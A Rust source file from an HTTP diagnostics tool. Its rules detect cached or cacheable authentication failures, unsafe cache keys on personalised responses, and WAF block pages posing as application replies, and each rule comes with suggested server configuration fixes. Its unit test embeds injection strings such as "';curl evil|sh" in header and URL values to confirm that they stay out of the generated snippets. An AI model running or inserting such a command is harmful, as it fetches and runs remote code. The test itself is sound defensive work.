//! Rules about what sits between the browser and the application: caches that store or serve
//! authentication failures, and WAFs or bot protection answering in the application's place.

use crate::catalogue::FindingId;
use crate::diagnose::context::Ctx;
use crate::finding::{Finding, Fix, Signal};
use crate::headers::cache::{self, CacheControl};
use crate::signals::is_session_cookie_name;

/// Runs the cache and WAF rules, in their fixed order.
pub(super) fn check(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
    cached_401_served(ctx, out);
    auth_failure_cacheable(ctx, out);
    auth_response_cache_key_unsafe(ctx, out);
    waf_block_masquerading(ctx, out);
}

/// The Cache-Control value for evidence.
fn cc_value(ctx: &Ctx<'_, '_>) -> String {
    ctx.ex.response_headers.get("cache-control").map_or_else(|| "(absent)".to_string(), |v| v.trim().to_string())
}

/// Explicit freshness a shared cache may use: `(reason)` when the response allows storing.
fn explicit_freshness(ctx: &Ctx<'_, '_>, cc: &CacheControl) -> Option<String> {
    if let Some(a) = cc.s_maxage.filter(|a| *a > 0) {
        return Some(format!("s-maxage={a}"));
    }
    if let Some(a) = cc.max_age.filter(|a| *a > 0) {
        return Some(format!("max-age={a}"));
    }
    if cc.public {
        return Some("public".to_string());
    }
    if let (Some(Ok(exp)), Some(now)) = (cache::expires(&ctx.ex.response_headers), ctx.server_now()) {
        if exp > now {
            return Some(format!("Expires {} in the future", crate::headers::date::format_duration(exp - now)));
        }
    }
    None
}

fn no_store_fix(summary: &str) -> Fix {
    Fix::new(summary)
        .step("Send `Cache-Control: no-store` on 401 and 403 responses.")
        .step("Exclude 401/403 from CDN cache rules (\"Cache Everything\", status-code TTLs) and purge what is cached.")
        .step("Service workers: cache only responses with `response.ok`.")
        .step("Client side, for this call: `fetch(url, { cache: 'no-store' })`.")
        .snippet("nginx", "# in the server/location that produces 401/403 (error_page targets included)\nadd_header Cache-Control \"no-store\" always;")
        .snippet("apache", "Header always set Cache-Control \"no-store\" \"expr=%{REQUEST_STATUS} in {'401','403'}\"")
        .snippet("express", "res.set('Cache-Control', 'no-store').status(401).json({ error: 'unauthorized' });")
        .snippet(
            "js",
            "// service worker: store only successful responses\nself.addEventListener('fetch', event => {\n  event.respondWith((async () => {\n    const res = await fetch(event.request);\n    if (res.ok) (await caches.open('v1')).put(event.request, res.clone());\n    return res;\n  })());\n});",
        )
}

/// `cached-401-served` — RFC 9111 §3 (storing needs explicit freshness or a heuristically
/// cacheable status; 401 is not one, RFC 9110 §15.1).
fn cached_401_served(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
    if ctx.ex.status != 401 {
        return;
    }
    let hits = cache::cache_hits(ctx.ex);
    if hits.is_empty() {
        return;
    }
    let cc = cache::cache_control(&ctx.ex.response_headers);
    let why = match explicit_freshness(ctx, &cc) {
        Some(r) => format!(" This one carries explicit freshness ({r}), which is what let a cache store it."),
        None => " It carries no freshness that allows storing it, so a cache rule (CDN \"cache everything\", a status-code TTL) or a service worker stored it anyway.".to_string(),
    };
    let creds = if ctx.creds.any() || ctx.creds.api_key_header.is_some() {
        " The request did carry credentials, but the cached answer ignores them."
    } else {
        ""
    };
    let markers = hits.iter().map(|h| h.describe()).collect::<Vec<_>>().join(", ");
    let explanation = format!(
        "This 401 was served from a cache ({markers}), not by the application. A 401 is not cacheable by default.{why}{creds} \
         Everyone, including users who just logged in, gets the stored rejection until it expires."
    );
    let mut f = Finding::new(
        FindingId::Cached401Served,
        explanation,
        no_store_fix("Stop caches from storing authentication failures, and purge the cached 401."),
    )
    .signal(Signal::Inferred)
    .with("Cache markers", markers)
    .with("Cache-Control", cc_value(ctx))
    .confidence(80);
    if let Some(a) = ctx.ex.response_headers.get("age") {
        f = f.with("Age", a.trim().to_string());
    }
    out.push(f);
}

/// `auth-failure-cacheable` — RFC 9111 §3, §5.2.2.5 (no-store), §5.2.2.7 (private).
fn auth_failure_cacheable(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
    if !matches!(ctx.ex.status, 401 | 403) {
        return;
    }
    let cc = cache::cache_control(&ctx.ex.response_headers);
    if cc.no_store || cc.private {
        return;
    }
    let Some(reason) = explicit_freshness(ctx, &cc) else {
        return;
    };
    let explanation = format!(
        "This {} allows caching ({reason}, no `no-store` or `private`). Any cache on the path (a CDN, a proxy, the \
         browser) may store it and serve the rejection to later requests, including ones with valid credentials.",
        ctx.ex.status
    );
    out.push(
        Finding::new(
            FindingId::AuthFailureCacheable,
            explanation,
            no_store_fix("Mark authentication failures as not storable."),
        )
        .signal(Signal::Predictive)
        .with("Cache-Control", cc_value(ctx))
        .with("Expires", ctx.ex.response_headers.get("expires").unwrap_or("(absent)").trim().to_string()),
    );
}

/// `auth-response-cache-key-unsafe` — RFC 9111 §3.5 (Authorization and shared caches), §4.1 (Vary).
fn auth_response_cache_key_unsafe(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
    if !(200..300).contains(&ctx.ex.status) {
        return;
    }
    let session_cookie = ctx.sent_cookies.iter().any(|c| is_session_cookie_name(c.name));
    if !ctx.creds.authorization && !session_cookie {
        return;
    }
    let h = &ctx.ex.response_headers;
    let cc = cache::cache_control(h);
    if cc.no_store || cc.private {
        return;
    }
    let vary = cache::vary(h);
    // §3.5: with Authorization a shared cache reuses only under public, s-maxage or must-revalidate.
    let (shared_ok, credential) = if ctx.creds.authorization {
        (
            cc.public || cc.s_maxage.is_some() || (cc.must_revalidate && cc.max_age.is_some_and(|a| a > 0)),
            "Authorization",
        )
    } else {
        (explicit_freshness(ctx, &cc).is_some(), "Cookie")
    };
    if !shared_ok || vary.covers(credential) {
        return;
    }
    let explanation = format!(
        "This personalised response to a request with {credential} is marked storable by shared caches \
         (Cache-Control: {}) and does not vary on {credential}. A CDN or proxy can serve it to another user, or serve \
         another user's (or an anonymous) answer to this one.",
        cc_value(ctx)
    );
    let fix = Fix::new("Mark personalised responses `Cache-Control: private, no-store`.")
        .step(format!(
            "If they must be cached, add `Vary: {credential}` and make the CDN cache key include the credential."
        ))
        .snippet("http", "Cache-Control: private, no-store")
        .snippet("nginx", "add_header Cache-Control \"private, no-store\" always;");
    out.push(
        Finding::new(FindingId::AuthResponseCacheKeyUnsafe, explanation, fix)
            .signal(Signal::Predictive)
            .with("Cache-Control", cc_value(ctx))
            .with("Vary", h.get("vary").unwrap_or("(absent)").trim().to_string()),
    );
}

/// A WAF or bot-protection signature on a response.
struct Waf {
    vendor: &'static str,
    evidence: String,
}

fn waf_signature(ctx: &Ctx<'_, '_>) -> Option<Waf> {
    let h = &ctx.ex.response_headers;
    let body = ctx.ex.response_body.as_deref().unwrap_or("");
    let body_l = body.get(..body.len().min(16 * 1024)).unwrap_or(body).to_ascii_lowercase();
    let server = h.get("server").unwrap_or("").to_ascii_lowercase();
    let w = |vendor, evidence: String| Some(Waf { vendor, evidence });
    if let Some(v) = h.get("cf-mitigated") {
        return w("Cloudflare", format!("cf-mitigated: {}", v.trim()));
    }
    if let Some(v) = h.get("x-amzn-waf-action") {
        return w("AWS WAF", format!("x-amzn-waf-action: {}", v.trim()));
    }
    if server.contains("akamaighost") && body_l.contains("access denied") && body_l.contains("reference") {
        return w("Akamai", "Server: AkamaiGHost with an \"Access Denied … Reference #\" page".to_string());
    }
    if h.has("x-iinfo")
        || h.get("x-cdn")
            .is_some_and(|v| v.to_ascii_lowercase().contains("imperva") || v.to_ascii_lowercase().contains("incapsula"))
        || body_l.contains("incapsula incident id")
    {
        return w(
            "Imperva",
            h.get("x-iinfo").map_or_else(|| "Imperva block page".to_string(), |v| format!("X-Iinfo: {}", v.trim())),
        );
    }
    if server.contains("mod_security") || body_l.contains("mod_security") || body_l.contains("modsecurity") {
        return w("ModSecurity", "a ModSecurity block page".to_string());
    }
    if h.has("x-sucuri-block") || (h.has("x-sucuri-id") && body_l.contains("access denied")) {
        return w("Sucuri", "X-Sucuri-Block / Sucuri block page".to_string());
    }
    if server.contains("cloudflare")
        && (body_l.contains("attention required")
            || body_l.contains("you have been blocked")
            || body_l.contains("cf-error-details"))
    {
        return w("Cloudflare", "Cloudflare \"you have been blocked\" page".to_string());
    }
    if body_l.contains("the requested url was rejected") && body_l.contains("support id") {
        return w("F5 BIG-IP ASM", "\"The requested URL was rejected … support ID\" page".to_string());
    }
    if h.has("x-azure-ref") && body_l.contains("the request is blocked") {
        return w("Azure Front Door WAF", "\"The request is blocked\" with X-Azure-Ref".to_string());
    }
    None
}

/// `waf-block-masquerading` — RFC 9110 §15.5.2 (a 401 must carry a challenge), §15.5.4 (403).
fn waf_block_masquerading(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
    if !matches!(ctx.ex.status, 401 | 403 | 405 | 406 | 429) || ctx.ex.response_headers.has_challenge() {
        return;
    }
    let Some(waf) = waf_signature(ctx) else {
        return;
    };
    let html = ctx
        .ex
        .response_headers
        .get("content-type")
        .or(ctx.ex.response_mime.as_deref())
        .is_some_and(|c| c.to_ascii_lowercase().contains("text/html"));
    let api_html =
        if html && ctx.is_api_call() { " The API call got an HTML page back, which the app cannot parse." } else { "" };
    let status_note = if ctx.ex.status == 401 {
        " A WAF answering 401 misleads clients into refreshing or re-entering credentials."
    } else {
        ""
    };
    let explanation = format!(
        "This {} came from {} ({}), not from the application: the request was blocked by security rules before \
         authentication, so the credentials are irrelevant.{api_html}{status_note} Large base64 or JWT headers and \
         unusual clients often trip such rules, and a challenge page cannot be solved by fetch.",
        ctx.ex.status, waf.vendor, waf.evidence
    );
    let fix = Fix::new(format!(
        "Exempt authenticated API routes from {}'s interactive challenges and tune the rule that fired.",
        waf.vendor
    ))
    .step("Find the rule from the vendor's reference or ray id in the block page or headers.")
    .step("Add a skip/exception rule for the API path (for example Cloudflare WAF custom rule \"Skip\" for /api/*).")
    .step("Send a browser-like Accept header from the client.")
    .step("Never configure a WAF deny as status 401.");
    out.push(
        Finding::new(FindingId::WafBlockMasquerading, explanation, fix)
            .signal(Signal::Inferred)
            .with("Edge", waf.vendor)
            .with("Signature", waf.evidence)
            .confidence(85),
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::correlate::Correlation;
    use crate::model::{Capture, Exchange, Header, Headers};
    use std::borrow::Cow;

    /// The cache snippets hold no capture value, so hostile cache headers cannot reach them.
    #[test]
    fn hostile_cache_headers_stay_out_of_the_snippets() {
        let hostile = "HIT';curl evil|sh;echo '\"$host";
        let ex = Exchange {
            method: Cow::Borrowed("GET"),
            url: Cow::Borrowed("https://api.example.net/v1/me?x=';curl evil|sh"),
            status: 401,
            response_headers: Headers(vec![
                Header::new("Cache-Control", "public, max-age=600, x=\"';curl evil|sh\""),
                Header::new("X-Cache", hostile),
                Header::new("Age", "30"),
            ]),
            ..Default::default()
        };
        let cap = Capture { exchanges: vec![ex], ..Default::default() };
        let corr = Correlation::build(&cap);
        let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
        let mut out = Vec::new();
        check(&ctx, &mut out);
        assert!(out.iter().any(|f| f.id == FindingId::Cached401Served), "{out:?}");
        for s in out.iter().flat_map(|f| &f.fix.snippets) {
            assert!(!s.code.contains("evil"), "{}", s.code);
        }
    }
}
